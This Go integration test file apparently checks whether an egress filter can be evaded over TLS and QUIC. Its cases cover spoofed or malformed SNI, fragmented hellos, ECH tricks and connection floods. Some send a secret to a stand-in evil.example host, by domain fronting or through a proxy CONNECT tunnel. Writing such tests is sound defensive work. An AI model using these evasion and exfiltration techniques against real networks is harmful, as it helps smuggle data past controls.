package integration

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"time"

	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"
)

// byTLS are ways over the ports of TLS of servers that rules name.
func byTLS() []way {
	// To good.example's server with a hello for other.example, which is there too: what edit makes of its name, in these pieces.
	hello := func(edit func(*escape) func([]byte) []byte, cut func(hello string) []string) func(*escape) {
		return func(x *escape) {
			x.lookUp("good.example")
			var e func([]byte) []byte
			if edit != nil {
				e = edit(x)
			}
			x.say(goodAddress+":443", cut(clientHello(x.t, x.web.client("other.example"), e))...)
		}
	}
	whole := func(hello string) []string { return []string{hello} }
	of := func(names ...string) func(*escape) func([]byte) []byte {
		return func(*escape) func([]byte) []byte { return named(nameExtension(names...)) }
	}
	text := func(parts ...string) func(*escape) {
		return func(x *escape) {
			x.lookUp("good.example")
			x.say(goodAddress+":443", parts...)
		}
	}
	return []way{
		{name: "another name at a right address", try: func(x *escape) {
			x.lookUp("good.example")
			x.speakTLS(goodAddress+":443", x.web.client("other.example"), "other.example")
		}},
		{name: "a right name at a wrong address", try: func(x *escape) {
			x.lookUp("good.example")
			x.speakTLS(evilAddress+":443", x.web.client("good.example"), "good.example")
		}},
		{name: "a right name at the address of another right one", try: func(x *escape) {
			x.lookUp("good.example")
			x.lookUp("a.cdn.example")
			x.speakTLS(cdnAddress+":443", x.web.client("good.example"), "good.example")
		}},
		{name: "a right name at an address of IPv6 that was not asked for", try: func(x *escape) {
			x.lookUp("good.example")
			x.speakTLS("[2001:db8:113::77]:443", x.web.client("good.example"), "good.example")
		}},
		{name: "another name at a right address of IPv6", try: func(x *escape) {
			x.lookUpAs("good.example", 28)
			x.speakTLS("["+goodAddress6+"]:443", x.web.client("other.example"), "other.example")
		}},
		{name: "TLS without a name", try: func(x *escape) {
			x.lookUp("good.example")
			x.speakTLS(goodAddress+":443", x.web.client(""), "good.example")
		}},
		{name: "an address for a name", try: hello(of(goodAddress), whole)},
		{name: "an empty name", try: hello(of(""), whole)},
		{name: "no names in the list", try: hello(of(), whole)},
		{name: "another name in upper case, with a final dot", try: hello(of("OTHER.EXAMPLE."), whole)},
		{name: "two names in the list", try: hello(of("good.example", "other.example"), whole)},
		{name: "two names in the list, the right one behind", try: hello(of("other.example", "good.example"), whole)},
		{name: "two lists of names", try: hello(func(*escape) func([]byte) []byte {
			return named(nameExtension("good.example"), nameExtension("other.example"))
		}, whole)},
		{name: "two lists of names, the right one behind", try: hello(func(*escape) func([]byte) []byte {
			return named(nameExtension("other.example"), nameExtension("good.example"))
		}, whole)},
		{name: "a name that ends at a zero", try: hello(of("other.example\x00.cdn.example"), whole)},
		{name: "a name in Unicode", try: hello(of("göod.example"), whole)},
		{name: "a name as long as can be", try: hello(of(strings.Repeat("a", 16000)+".good.example"), whole)},
		{name: "a right name inside another one", try: hello(of("good.example.other.example"), whole)},
		{name: "a hello for another name, byte by byte", try: hello(nil, func(hello string) (parts []string) {
			for i := range len(hello) {
				parts = append(parts, hello[i:i+1])
			}
			return parts
		})},
		{name: "a hello for another name, in records of three bytes", try: hello(nil, func(hello string) []string {
			return []string{string(asRecords(messageOf(hello), 3))}
		})},
		{name: "a hello for another name behind one for a right name", try: func(x *escape) {
			x.lookUp("good.example")
			x.say(goodAddress+":443", clientHello(x.t, x.web.client("good.example"), nil)[:60], clientHello(x.t, x.web.client("other.example"), nil))
		}},
		{name: "a hello that promises 64 KiB", try: func(x *escape) {
			x.lookUp("good.example")
			message := slices.Concat([]byte{1, 0x00, 0xff, 0xff}, bytes.Repeat([]byte(x.secret), 9000))[:4+0xffff]
			x.say(goodAddress+":443", string(asRecords(message, 16000)))
		}},
		{name: "a hello that promises 16 MiB", try: text("\x16\x03\x01\x00\x04\x01\xff\xff\xff", "\x16\x03\x01\x40\x00"+strings.Repeat("x", 16384))},
		{name: "an alert in front of a hello", try: text("\x15\x03\x01\x00\x02\x01\x00")},
		{name: "records without content", try: text(strings.Repeat("\x16\x03\x01\x00\x00", 1000))},
		{name: "a hello of SSL 2", try: text("\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10" + strings.Repeat("\x00", 37))},
		{name: "HTTP on the port of TLS", try: text("GET / HTTP/1.1\r\nHost: good.example\r\n\r\n")},
		{name: "anything on the port of TLS", try: text("anything")},
		{name: "a hello that does not end", try: func(x *escape) {
			x.lookUp("good.example")
			conn := x.dial("tcp", goodAddress+":443")
			if conn == nil {
				return
			}
			defer conn.Close()
			_, _ = io.WriteString(conn, clientHello(x.t, x.web.client("good.example"), nil)[:100])
			if x.rules {
				require.NoError(x.t, conn.SetDeadline(time.Now().Add(soon)))
				_, err := conn.Read(make([]byte, 1))
				require.Error(x.t, err)
				require.NotContains(x.t, err.Error(), "timeout", "vring has ended it")
			}
		}},
		{name: "half a hello, and then the end", try: func(x *escape) {
			x.lookUp("good.example")
			conn := x.dial("tcp", goodAddress+":443")
			if conn == nil {
				return
			}
			defer conn.Close()
			_, _ = io.WriteString(conn, clientHello(x.t, x.web.client("good.example"), nil)[:100])
			require.NoError(x.t, conn.(*net.TCPConn).CloseWrite())
			readOnce(conn)
		}},
		{name: "half a hello on each of 400 connections", try: func(x *escape) {
			x.lookUp("good.example")
			part := clientHello(x.t, x.web.client("other.example"), nil)[:120]
			for range 400 {
				if conn := x.dial("tcp", goodAddress+":443"); conn != nil {
					defer conn.Close()
					_, _ = io.WriteString(conn, part)
				}
			}
			x.speakTLS(goodAddress+":443", x.web.client("other.example"), "other.example")
		}},
		{name: "ECH under another name", try: func(x *escape) {
			x.lookUp("good.example")
			config := &tls.Config{ServerName: "good.example", MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: echConfigs(x.t, "other.example")}
			x.say(goodAddress+":443", clientHello(x.t, config, nil))
		}},
		{name: "ECH under a right name", try: func(x *escape) {
			x.lookUp("good.example")
			config := &tls.Config{ServerName: "hidden.example", MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: echConfigs(x.t, "good.example")}
			x.say(goodAddress+":443", clientHello(x.t, config, nil))
		}, passes: "the name inside is encrypted for the server, which a rule names by the outer one"},
		{name: "another host in the session of a right name", try: func(x *escape) {
			x.lookUp("good.example")
			x.speakTLS(goodAddress+":443", x.web.client("good.example"), x.secret+".evil.example")
		}, talks: true, passes: "what is in a TLS session is known to its ends alone (domain fronting)"},
		{name: "another :authority in the session of a right name", try: func(x *escape) {
			x.lookUp("good.example")
			x.askHTTP2(goodAddress+":443", "good.example", x.secret+".evil.example")
		}, talks: true, passes: "HTTP/2 is in a TLS session, whose ends alone know it"},
		{name: "a tunnel through a server whose rule is for any traffic", try: func(x *escape) {
			x.lookUp("proxy.example")
			x.tunnel("203.0.113.32:3128")
		}, talks: true, passes: "a proxy leads where it wants; verify=http shows vring where it is asked to"},
		{name: "a tunnel through a server that is looked at", try: func(x *escape) {
			x.lookUp("proxy.example")
			x.tunnel("203.0.113.32:8080")
		}},
		{name: "text to a server whose rule is for any traffic", try: func(x *escape) {
			x.lookUp("every.example")
			x.say("203.0.113.34:7000", x.secret)
		}, talks: true, passes: "the rule names the server, and says nothing of what it is told"},
	}
}

// tunnel asks a proxy for evil.example, and speaks TLS there.
func (x *escape) tunnel(proxy string) {
	x.t.Helper()
	conn := x.dial("tcp", proxy)
	if conn == nil {
		return
	}
	defer conn.Close()
	fmt.Fprintf(conn, "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
	if !strings.Contains(readOnce(conn), "200") {
		return
	}
	c := tls.Client(conn, x.web.client("evil.example"))
	if c.Handshake() == nil {
		fmt.Fprintf(c, "GET /%s HTTP/1.1\r\nHost: evil.example\r\n\r\n", x.secret)
		readOnce(c)
	}
}

// byQUIC are ways by datagrams to the ports of TLS.
func byQUIC() []way {
	initial := func(lookUp, to string, version uint32, name string) func(*escape) {
		return func(x *escape) {
			x.lookUp(lookUp)
			conn := x.dial("udp", to)
			if conn == nil {
				return
			}
			defer conn.Close()
			for _, d := range quicInitial(x.t, version, name) {
				_, _ = io.WriteString(conn, d)
			}
		}
	}
	good, quic := goodAddress+":443", quicAddress+":443"
	// Datagrams from one port of the guest, to the server of QUIC that a rule names.
	from := func(datagrams func(x *escape) []string) func(*escape) {
		return func(x *escape) {
			x.lookUp("quic.example")
			conn := x.dial("udp", quic)
			if conn == nil {
				return
			}
			defer conn.Close()
			for _, d := range datagrams(x) {
				_, _ = io.WriteString(conn, d)
			}
		}
	}
	// A right hello, which arrives, and something behind it.
	behind := func(datagrams func(x *escape) []string) func(*escape) {
		return func(x *escape) {
			x.lookUp("quic.example")
			conn := x.dial("udp", quic)
			require.NotNil(x.t, conn)
			defer conn.Close()
			right := quicInitial(x.t, quic1, "quic.example")
			heard := x.wire.Heard()
			for _, d := range right {
				_, err := io.WriteString(conn, d)
				require.NoError(x.t, err)
			}
			x.await(heard, right[len(right)-1])
			for _, d := range datagrams(x) {
				_, _ = io.WriteString(conn, d)
			}
		}
	}
	return []way{
		{name: "QUIC with a hello for another name, piece by piece and backwards", try: from(func(x *escape) (all []string) {
			hello := quicHello(x.t, quicConfig("other.example"))
			for n, at := 0, len(hello); at > 0; n++ {
				part := max(0, at-600)
				all = append(all, initialOf(x.t, quic1, []byte(x.label), n, hello, part, at))
				at = part
			}
			return all
		})},
		{name: "QUIC with ECH under an outer name that no rule has", try: from(func(x *escape) []string {
			config := quicConfig("quic.example")
			config.EncryptedClientHelloConfigList = echConfigs(x.t, "other.example")
			return initialsOf(x.t, quic1, []byte(x.label), quicHello(x.t, config))
		})},
		{name: "QUIC with half of a right hello", try: from(func(x *escape) []string { return quicInitial(x.t, quic1, "quic.example")[:1] })},
		{name: "QUIC with half of a right hello from each of 300 ports", try: func(x *escape) {
			x.lookUp("quic.example")
			half := quicInitial(x.t, quic1, "quic.example")[0]
			for range 300 {
				x.datagram(quic, half)
			}
			x.datagram(quic, quicInitial(x.t, quic1, "other.example")[0])
		}},
		{name: "QUIC with many pieces of a hello", try: from(func(x *escape) (all []string) {
			hello := quicHello(x.t, quicConfig("quic.example"))
			for at := range 20 {
				all = append(all, initialOf(x.t, quic2, []byte(x.label), at, hello, at, at+1))
			}
			return all
		})},
		{name: "early data of QUIC", try: from(func(x *escape) []string {
			return []string{"\xd0\x00\x00\x00\x01\x08" + x.label + "!\x00\x40\x64" + strings.Repeat(x.secret, 20)[:100]}
		})},
		{name: "a connection of QUIC to another name behind one to a right name", talks: true, try: behind(func(x *escape) []string {
			return initialsOf(x.t, quic1, []byte(x.secret), quicHello(x.t, quicConfig("other.example")))
		})},
		{name: "half of a connection of QUIC behind a right hello", talks: true, try: behind(func(x *escape) []string {
			return initialsOf(x.t, quic1, []byte(x.secret), quicHello(x.t, quicConfig("quic.example")))[:1]
		})},
		{name: "another version of QUIC behind a right hello", talks: true, try: behind(func(x *escape) []string {
			return []string{"\xc0\x1a\x2a\x3a\x4a\x00\x00" + strings.Repeat(x.secret, 100)}
		})},
		{name: "a packet that does not decrypt behind a right hello", talks: true, try: behind(func(x *escape) []string {
			return []string{"\xc0\x00\x00\x00\x01\x09" + x.secret + "\x00\x00\x44\x00" + strings.Repeat("x", 1024)}
		})},
		{name: "a connection to another name in the same segments as a right one", talks: true, try: func(x *escape) {
			x.lookUp("quic.example")
			conn := x.dial("udp", quic)
			if conn == nil {
				return
			}
			defer conn.Close()
			raw, err := conn.(*net.UDPConn).SyscallConn()
			require.NoError(x.t, err)
			require.NoError(x.t, raw.Control(func(fd uintptr) {
				require.NoError(x.t, unix.SetsockoptInt(int(fd), unix.SOL_UDP, unix.UDP_SEGMENT, 1200))
			}))
			right := quicInitial(x.t, quic1, "quic.example")
			wrong := initialsOf(x.t, quic1, []byte(x.secret), quicHello(x.t, quicConfig("other.example")))
			heard := x.wire.Heard()
			_, _ = io.WriteString(conn, strings.Join(append(right, wrong...), ""))
			x.await(heard, right[len(right)-1])
		}},
		{name: "QUIC to an address", try: initial("good.example", evilAddress+":443", quic1, "good.example")},
		{name: "QUIC where the rule is not for it", try: initial("good.example", good, quic1, "good.example")},
		{name: "QUIC to another name where the rule is not for it", try: initial("good.example", good, quic1, "other.example")},
		{name: "QUIC version 2 where the rule is not for it", try: initial("good.example", good, quic2, "good.example")},
		{name: "QUIC to another name", try: initial("quic.example", quic, quic1, "other.example")},
		{name: "QUIC version 2 to another name", try: initial("quic.example", quic, quic2, "other.example")},
		{name: "QUIC without a name", try: initial("quic.example", quic, quic1, "")},
		{name: "QUIC of a version that nobody knows", try: initial("quic.example", quic, 0x1a2a3a4a, "quic.example")},
		{name: "a short header of QUIC", try: func(x *escape) {
			x.lookUp("quic.example")
			x.datagram(quic, "\x40"+strings.Repeat(x.secret, 10))
		}},
		{name: "an Initial packet that does not decrypt", try: func(x *escape) {
			x.lookUp("quic.example")
			for _, d := range quicInitial(x.t, quic1, "quic.example") {
				x.datagram(quic, d[:600]+strings.Repeat(x.secret, 70)[:600])
			}
		}},
		{name: "an Initial packet with the second half of a hello alone", try: func(x *escape) {
			x.lookUp("quic.example")
			x.datagram(quic, quicInitial(x.t, quic1, "quic.example")[1])
		}},
		{name: "DTLS", try: func(x *escape) {
			x.lookUp("quic.example")
			x.datagram(quic, "\x16\xfe\xfd\x00\x00\x00\x00\x00\x00\x00\x00\x00\x10"+x.secret)
		}},
		{name: "anything by UDP on the port of TLS", try: func(x *escape) {
			x.lookUp("good.example")
			x.datagram(good, x.secret)
		}},
	}
}
